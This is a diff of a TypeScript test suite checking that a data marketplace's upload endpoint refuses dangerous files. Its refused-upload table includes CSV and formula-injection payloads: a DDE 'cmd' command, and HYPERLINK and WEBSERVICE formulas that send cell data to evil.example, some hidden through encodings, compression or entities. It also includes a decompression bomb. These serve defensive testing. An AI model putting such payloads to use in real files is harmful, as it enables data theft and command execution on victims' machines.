@@ -6,26 +6,18 @@ import { refusedReading } from '#server/domains/samples/addFile.ts';
 import { Refusal } from '#server/kernel/refusal.ts';
 import { SlowError } from '#server/tables/input.ts';
 import { sweepFiles } from '#server/uploads/sweepFiles.ts';
-import { openTestExchange } from '#tests/support/exchange.ts';
-import { forFile } from '#tests/support/forFile.ts';
+import { exchangeForFile, openTestExchange, productBody } from '#tests/support/exchange.ts';
 import { added, csv, stored, upload, uploadCut } from './fixture.ts';
 import { slowness } from '#tests/support/slowness.ts';
 import { changeRows } from '#tests/support/database/rows.ts';
+import { subscriptionRow } from '#tests/support/ledgerFixture.ts';
 
-const server = await forFile(openTestExchange({ env: { UPLOAD_LIMIT: '4' } }));
+const server = await exchangeForFile({ env: { UPLOAD_LIMIT: '4' } });
 await server.app.listen({ host: '127.0.0.1', port: 0 });
 const seller = await server.join('user');
 const rival = await server.join('user');
 const category = await server.addCategory();
-const product = (url: string, more: object = {}) => ({
-  name: 'Levels',
-  type: 'Dataset',
-  description: 'By a test',
-  price: 0,
-  subcategory: category,
-  url,
-  ...more,
-});
+const product = (url: string, more: object = {}) => productBody({ subcategory: category, url, ...more });
 const files = () => server.db.selectFrom('files').selectAll().orderBy('id').execute();
 const listed = async (bytes: string, more: object = {}) => {
   const { id } = await added(server, bytes, seller);
@@ -210,83 +202,58 @@ function workbook(rows: number, stored?: string, more: Record<string, string | B
   );
 }
 
-const refused: [string, () => Buffer | string, number, RegExp][] = [
-  ['nothing', () => '', 422, /empty/u],
-  ['more than the limit', () => Buffer.alloc(4 * 2 ** 20 + 1, 'a,b\n'), 413, /larger than 4 MB/u],
-  ['10,000 columns', () => wide, 422, /10000 columns; at most 2000/u],
-  ['a web page', () => '<!doctype html><table><tr><td>1</table>', 422, /web page/u],
-  ['a PDF document', () => '%PDF-1.7\n1 0 obj', 422, /PDF/u],
-  ['a picture', () => Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000', 'hex'), 422, /not text/u],
-  ['a program', () => Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(4096)]), 422, /not text/u],
-  ['a table that is also a zip archive', () => Buffer.concat([Buffer.from(csv), zip]), 422, /also a zip archive/u],
-  ['a table that is also a PDF', () => `a,b\n1,%PDF-1.4\n`, 422, /also a PDF/u],
-  [
-    'an archive with a second one',
-    () => Buffer.concat([zip, Buffer.from('<script>1</script>')]),
-    422,
-    /behind the end/u,
-  ],
+const [formula, webService] = [/spreadsheet formula/u, /\(=WEBSERVICE\(…\)/u];
+const refused: [string, () => Buffer | string, RegExp, status?: number][] = [
+  ['nothing', () => '', /empty/u],
+  ['more than the limit', () => Buffer.alloc(4 * 2 ** 20 + 1, 'a,b\n'), /larger than 4 MB/u, 413],
+  ['10,000 columns', () => wide, /10000 columns; at most 2000/u],
+  ['a web page', () => '<!doctype html><table><tr><td>1</table>', /web page/u],
+  ['a PDF document', () => '%PDF-1.7\n1 0 obj', /PDF/u],
+  ['a picture', () => Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000', 'hex'), /not text/u],
+  ['a program', () => Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(4096)]), /not text/u],
+  ['a table that is also a zip archive', () => Buffer.concat([Buffer.from(csv), zip]), /also a zip archive/u],
+  ['a table that is also a PDF', () => `a,b\n1,%PDF-1.4\n`, /also a PDF/u],
+  ['an archive with a second one', () => Buffer.concat([zip, Buffer.from('<script>1</script>')]), /behind the end/u],
   [
     'two files in an archive',
     () => Buffer.from(zipSync({ 'a.csv': Buffer.from('a\n1\n'), 'b.csv': Buffer.from('a\n1\n') })),
-    422,
     /more than one file/u,
   ],
   [
     'a broken workbook',
     () => Buffer.from(zipSync({ 'xl/worksheets/sheet1.xml': Buffer.from(sheet) })).subarray(0, 90),
-    422,
     /archive|workbook/u,
   ],
-  ['a command of a spreadsheet', () => `a,b\n1,=cmd|' /C calc'!A0\n`, 422, /spreadsheet formula/u],
-  [
-    'a formula that calls an address',
-    () => `a,b\n1,"=HYPERLINK(""https://evil.example/""&A1)"\n`,
-    422,
-    /spreadsheet formula/u,
-  ],
+  ['a command of a spreadsheet', () => `a,b\n1,=cmd|' /C calc'!A0\n`, formula],
+  ['a formula that calls an address', () => `a,b\n1,"=HYPERLINK(""https://evil.example/""&A1)"\n`, formula],
   [
     'a formula in UTF-16',
     () => Buffer.from(`\uFEFFa,b\n1,"=HYPERLINK(""https://evil.example/"")"\n`, 'utf16le'),
-    422,
-    /spreadsheet formula/u,
+    formula,
   ],
-  [
-    'a packed formula',
-    () => gzipSync(`a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n2,3\n`),
-    422,
-    /spreadsheet formula/u,
-  ],
-  ['a formula in row 30,000 of a packed table', () => gzipSync(longTable), 422, /\(=WEBSERVICE\(…\)/u],
+  ['a packed formula', () => gzipSync(`a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n2,3\n`), formula],
+  ['a formula in row 30,000 of a packed table', () => gzipSync(longTable), webService],
   [
     'a formula in row 30,000 of an archive',
     () => Buffer.from(zipSync({ 'a.csv': Buffer.from(longTable) })),
-    422,
-    /\(=WEBSERVICE\(…\)/u,
+    webService,
   ],
-  ['a formula as text in row 30,000 of a workbook', () => workbook(30_000), 422, /\(=WEBSERVICE\(…\)/u],
+  ['a formula as text in row 30,000 of a workbook', () => workbook(30_000), webService],
   [
     'a stored formula that calls an address',
     () => workbook(3, '1+_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;B2)'),
-    422,
-    /\(=WEBSERVICE\(…\)/u,
+    webService,
   ],
-  ['a formula in entities', () => workbook(3, '&#87;EB&#x53;ERVICE(A1)'), 422, /\(=WEBSERVICE\(…\)/u],
-  ['a formula in CDATA', () => workbook(3, '<![CDATA[WEBSERVICE(A1)]]>'), 422, /\(=WEBSERVICE\(…\)/u],
-  [
-    'a formula behind escaped filler',
-    () => workbook(3, `"${'&quot;'.repeat(4_000)}"&amp;WEBSERVICE(A1)`),
-    422,
-    /\(=WEBSERVICE\(…\)/u,
-  ],
+  ['a formula in entities', () => workbook(3, '&#87;EB&#x53;ERVICE(A1)'), webService],
+  ['a formula in CDATA', () => workbook(3, '<![CDATA[WEBSERVICE(A1)]]>'), webService],
+  ['a formula behind escaped filler', () => workbook(3, `"${'&quot;'.repeat(4_000)}"&amp;WEBSERVICE(A1)`), webService],
   [
     'a formula in a sheet of UTF-16 in another folder',
     () =>
       workbook(3, '1+1', {
         'data/s.xml': Buffer.from('<worksheet><c><f>WEBSERVICE(A1)</f></c></worksheet>', 'utf16le'),
       }),
-    422,
-    /\(=WEBSERVICE\(…\)/u,
+    webService,
   ],
   [
     'a named formula',
@@ -294,13 +261,11 @@ const refused: [string, () => Buffer | string, number, RegExp][] = [
       workbook(3, 'X', {
         'xl/names.xml': '<definedNames><definedName name="X">CALL("a","b")</definedName></definedNames>',
       }),
-    422,
     /\(=CALL\(…\)/u,
   ],
   [
     'a workbook that grows 400 times',
     () => workbook(3, '1+1', Object.fromEntries(['1', '2', '3'].map((one) => [`xl/${one}.xml`, ' '.repeat(2 ** 25)]))),
-    422,
     /larger when unpacked/u,
   ],
   [
@@ -309,15 +274,13 @@ const refused: [string, () => Buffer | string, number, RegExp][] = [
       workbook(3, '[1]!a', {
         'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
       }),
-    422,
     /starts a program/u,
   ],
-  ['macros', () => workbook(3, '1+1', { 'xl/vbaProject.bin': 'x' }), 422, /also a program of macros/u],
+  ['macros', () => workbook(3, '1+1', { 'xl/vbaProject.bin': 'x' }), /also a program of macros/u],
   [
     'an escaped formula',
     () => String.raw`[{"a":"x"},{"a":"\u003dWEBSERVICE(\u0022https://evil.example/\u0022)"}]`,
-    422,
-    /spreadsheet formula/u,
+    formula,
   ],
 ];
 
@@ -328,7 +291,7 @@ it('reads other formulas of a workbook as their stored values', async () => {
 });
 
 describe('a file that is refused with a reason', () => {
-  it.each(refused)('is one with %s', async (_name, bytes, status, reason) => {
+  it.each(refused)('is one with %s', async (_name, bytes, reason, status = 422) => {
     const before = [stored(server), await files()];
     const reply = await upload(server, bytes(), seller);
     expect([reply.statusCode, reply.json<{ error: string }>().error]).toEqual([status, expect.stringMatching(reason)]);
@@ -346,11 +309,7 @@ describe('a file that is refused with a reason', () => {
   });
 
   it('has no declared length', async () => {
-    const reply = await server.app.inject({
-      method: 'POST',
-      url: '/streams/files?name=a',
-      headers: { authorization: seller.token },
-    });
+    const reply = await seller.call('POST', '/streams/files?name=a');
     expect(reply.statusCode).toBe(411);
   });
 });
@@ -368,15 +327,13 @@ describe('a price for data that is not listed yet', () => {
       const id = await list({ subcategory: group, price });
       const names = price === 900_000 ? 'other\nthings' : 'Day\nstation_id\nlevel';
       await changeRows(server.db, 'streams', { id }, { buyers: 1, column_names: names });
-      const sale = { id: crypto.randomUUID(), stream_id: id, user_id: rival.id, seller_id: owner, hours: 1 };
       const values = {
-        ...sale,
+        ...subscriptionRow(id, rival.id, owner),
+        hours: 1,
         start_at: at,
         end_at: `2030-01-0${index + 1}T00:00:00.000Z`,
         price,
         total: price,
-        offer_id: null,
-        key_hash: null,
         created_at: at,
       };
       await server.db.insertInto('subscriptions').values(values).execute();
